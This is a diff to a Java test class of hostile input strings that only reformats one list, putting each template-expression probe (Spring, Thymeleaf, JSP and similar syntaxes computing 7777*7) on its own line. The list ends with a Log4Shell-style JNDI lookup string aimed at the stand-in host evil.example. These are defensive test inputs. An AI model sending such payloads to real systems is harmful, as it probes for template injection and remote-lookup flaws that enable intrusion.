@@ -50,9 +50,18 @@ public final class HostileTexts {
 
     /** Expressions of template engines and libraries; computed they would show {@link #COMPUTED}. */
     public static final List<String> EXPRESSIONS = List.of(
-            "${7777*7}", "#{7777*7}", "*{7777*7}", "__${7777*7}__", "[[${7777*7}]]", "[(${7777*7})]",
-            "{{7777*7}}", "<%= 7777*7 %>", "${T(java.lang.Math).abs(7777*7)}", "|${7777*7}|",
-            "=7777*7", "${jndi:ldap://evil.example/${7777*7}}");
+            "${7777*7}",
+            "#{7777*7}",
+            "*{7777*7}",
+            "__${7777*7}__",
+            "[[${7777*7}]]",
+            "[(${7777*7})]",
+            "{{7777*7}}",
+            "<%= 7777*7 %>",
+            "${T(java.lang.Math).abs(7777*7)}",
+            "|${7777*7}|",
+            "=7777*7",
+            "${jndi:ldap://evil.example/${7777*7}}");
 
     public static final String COMPUTED = "54439";
 
